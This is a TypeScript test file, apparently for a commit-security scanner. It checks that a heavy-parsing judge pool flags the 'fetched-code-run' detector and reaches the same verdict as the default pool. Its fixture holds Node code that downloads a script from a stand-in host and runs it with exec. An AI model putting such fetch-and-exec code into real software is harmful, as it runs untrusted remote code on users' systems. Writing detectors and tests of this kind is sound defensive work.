/** The optimized parser saves time and changes nothing. */
import { DEFAULT_POLICY, toBaseline } from "../../src/engine/index.ts";
import { createJudgePool } from "../../src/judge/pool.ts";
import type { Judged } from "../../src/pipeline/ports.ts";
import { aGathered } from "./a-gathered.ts";

const NOBODY = toBaseline([], { name: "", email: "" });
const SOURCE = `const { exec } = require("child_process");
function fetched(address) { return fetch(address).then((answer) => answer.text()); }
fetched("https://code.example.net/a.sh").then((text) => exec(text));
`;
const LINES = SOURCE.trimEnd().split("\n");
const patch = `@@ -0,0 +1,${LINES.length} @@\n${LINES.map((line) => `+${line}\n`).join("")}`;

async function judged(parsesMuch: boolean): Promise<Judged> {
  const plain = aGathered("Fetch the code");
  const files = plain.files.map((file) => ({ ...file, patch, after: new TextEncoder().encode(SOURCE) }));
  const pool = createJudgePool();
  if (parsesMuch) pool.expect?.(100_000);
  try {
    return await pool.judgeCommit({ ...plain, files }, NOBODY, DEFAULT_POLICY);
  } finally {
    pool.close();
  }
}

test("a process that parses much reads programs as another does", async () => {
  const much = await judged(true);
  expect(much.verdict.findings.map(({ detector }) => detector)).toContain("fetched-code-run");
  expect(much).toEqual(await judged(false));
}, 60_000);
